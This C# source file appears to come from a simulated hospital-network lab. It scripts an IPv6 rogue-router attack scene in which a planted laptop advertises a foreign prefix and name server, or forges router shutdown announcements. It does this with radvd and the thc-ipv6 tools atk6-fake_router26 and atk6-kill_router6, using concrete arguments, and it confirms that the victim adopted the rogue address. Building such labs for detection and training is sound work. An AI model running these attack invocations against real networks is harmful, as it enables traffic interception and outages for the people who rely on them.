using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Routers;

/// <summary>A laptop announces itself as IPv6 router beside the network's own, with a prefix and a name server of its own, or takes the network's router away in its name.</summary>
internal sealed class RogueRouter() : Scene("rogue-router",
    "A laptop announces itself as IPv6 router of a department, with a name server of its own, or says in the router's name that it goes.",
    "一台笔记本电脑在科室内宣告自己为 IPv6 路由器并给出自己的域名服务器，或冒用路由器之名宣告其下线。",
    "T1557", "T1498")
{
    private static readonly string[] Ways = ["radvd", "fake-router", "router-killed"];

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [RouterAnnouncer.Needs, new("atk6-fake_router26", "thc-ipv6"), new("atk6-kill_router6", "thc-ipv6")];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HostNamespace victim = stage.Site[stage.Dice.Of(Cast.Some(Cast.Inside(stage.Site), "nobody is there to listen to a router")).Key], router = stage.Site[HospitalNetwork.Router];
        Department department = victim.Device.Department;
        AnnouncedNetwork own = AnnouncedNetwork.From(stage.Dice), foreign = AnnouncedNetwork.From(stage.Dice);
        string way = stage.Dice.Of(Ways), priority = stage.Dice.Of(["medium", "high"]);
        int before = stage.Dice.Between(5, 7), times = stage.Dice.Between(2, 5), pause = stage.Dice.Between(1, 3);
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, department), cancel);
        foreach (HostNamespace host in (HostNamespace[])[router, victim, rogue]) await RouterAnnouncer.WakeAsync(stage, host, department, cancel);

        stage.Begin();
        await using (await RouterAnnouncer.AnnounceAsync(stage, router, department, own, before, cancel))
        {
            if (!await HasAddressAsync(victim, own, cancel)) throw new LabException($"{victim.Device.Key} does not believe its router");
            if (way == "router-killed") await KillAsync(stage, rogue, router, department, times, pause, cancel);
            else if (way == "radvd") await (await RouterAnnouncer.AnnounceAsync(stage, rogue, department, foreign, times, cancel)).DisposeAsync();
            else await stage.MustRunAsync(rogue, "atk6-fake_router26",
                ["-A", foreign.Prefix + "/64", "-D", foreign.NameServer, "-p", priority, "-n", SceneStage.Text(times), "-i", SceneStage.Text(pause), "eth0"], cancel);
            if (way != "router-killed" && !await HasAddressAsync(victim, foreign, cancel)) throw new LabException($"{victim.Device.Key} does not believe the foreign router");
        }
        return new SceneReport([AllOf(rogue)],
            [("department", department.Key), ("attacker", rogue.Device.Ip.ToString()), ("attacker-mac", Network.CardTool.Text(rogue.Device.Mac)), ("victim", victim.Device.Key), ("way", way), ("own", own.Prefix), ("foreign", foreign.Prefix),
                ("before", SceneStage.Text(before)), ("times", SceneStage.Text(times))]);
    }

    private static async Task KillAsync(SceneStage stage, HostNamespace rogue, HostNamespace router, Department department, int times, int pause, CancellationToken cancel)
    {
        string name = await LinkLocalAsync(router, RouterAnnouncer.CardOf(router, department), cancel);
        for (int time = 0; time < times; time++)
        {
            // It goes on until it is told to end; each time, one announcement at least is sent.
            await using RunningProgram kill = await ProgramRun.ServeAsync(rogue, stage.Site.LogOf(rogue, "kill_router6"), "atk6-kill_router6", ["eth0", name, Network.CardTool.Text(rogue.Device.Mac)], [], cancel);
            await Task.Delay(TimeSpan.FromSeconds(pause), cancel);
        }
    }

    private static async Task<string> LinkLocalAsync(HostNamespace host, string card, CancellationToken cancel)
    {
        string said = (await IpTool.RunAsync("ip", ["-n", host.Name, "-6", "-o", "addr", "show", "dev", card, "scope", "link"], null, cancel)).Output;
        string[] words = said.Split(' ', StringSplitOptions.RemoveEmptyEntries);
        int at = Array.IndexOf(words, "inet6");
        return at < 0 ? throw new LabException($"{host.Device.Key} has no link-local address") : words[at + 1].Split('/')[0];
    }

    /// <summary>Whether a host has made itself an address of a network.</summary>
    private static async Task<bool> HasAddressAsync(HostNamespace host, AnnouncedNetwork network, CancellationToken cancel)
    {
        string said = (await IpTool.RunAsync("ip", ["-n", host.Name, "-6", "-o", "addr", "show", "dev", "eth0", "scope", "global"], null, cancel)).Output;
        // ip writes a group without its leading zeros: the address is compared, not its text.
        byte[] prefix = System.Net.IPAddress.Parse(network.Prefix).GetAddressBytes()[..8];
        return said.Split([' ', '\n', '/'], StringSplitOptions.RemoveEmptyEntries).Any(word => System.Net.IPAddress.TryParse(word, out System.Net.IPAddress? ip) && ip.GetAddressBytes().AsSpan().StartsWith(prefix));
    }
}
